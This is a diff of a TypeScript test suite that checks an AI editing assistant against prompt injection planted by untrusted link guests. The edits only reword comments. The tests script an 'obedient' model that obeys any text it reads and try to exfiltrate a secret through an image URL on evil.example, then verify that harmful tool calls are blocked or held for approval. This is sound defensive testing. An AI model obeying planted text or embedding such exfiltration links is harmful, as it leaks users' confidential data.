@@ -17,7 +17,7 @@ const secret = 'The price is 4711.'
 const evil = 'https://evil.example/collect?text=The+price+is+4711'
 const call = (name: string, input: Record<string, unknown>) => ({ toolCall: { name, arguments: input } })
 
-/** A model that does whatever a text tells it to: it reads all there is, and then does all that could do harm. */
+/** A model that obeys every text: it reads everything, and then makes every harmful call. */
 const obedient: ModelScript = ({ results }) => {
   if (results.length === 0) return { chunks: [call('read_document', {}), call('read_comments', {})] }
   if (results.length > 2) return 'Done as the text says.'
@@ -55,7 +55,7 @@ function person(session: Session): Person {
 async function enter(kind: 'commenter' | 'viewer'): Promise<Person> {
   const { url } = (await owner.call<{ url: string }>('POST', `/api/documents/${id}/links`, { role: kind })).body
   const token = url.split('/').at(-1)
-  // Whoever comes by a link is a stranger, and their name is a text like any other.
+  // A guest by a link is untrusted, and their name is a text like any other.
   const name = attacks.find(({ length }) => length < 60) ?? 'Mallory'
   return person((await request(server.url, 'POST', `/api/links/${token}`, { name })).body as Session)
 }
@@ -112,7 +112,8 @@ describe('a model that obeys what it reads', () => {
     const run = await ask(commenter)
     expect(run.status).toBe('completed')
     expect(await markdownOf()).toBe(before)
-    // Pictures, decisions and what isn't there are not theirs to ask for; an image of somebody else's server is nobody's to suggest.
+    // They may not ask for images, decisions or unknown tools; an image on another server may not be suggested by
+    // anyone.
     for (const tool of ['insert_image', 'insert_text', 'decide_change', 'send_email'])
       expect(step(run, tool)?.status, tool).toBe('error')
     expect(step(run, 'replace_text')?.status).toBe('ok')
@@ -124,7 +125,7 @@ describe('a model that obeys what it reads', () => {
     expect(run.status).toBe('awaiting_approval')
     const held = step(run, 'insert_image')
     expect(held?.status).toBe('awaiting_approval')
-    // Whoever decides sees where it would go.
+    // The person who decides sees the target address.
     expect(JSON.stringify(held)).toContain(evil)
     expect(step(run, 'insert_text')?.status).toBe('error')
     expect(step(run, 'send_email')?.status).toBe('error')
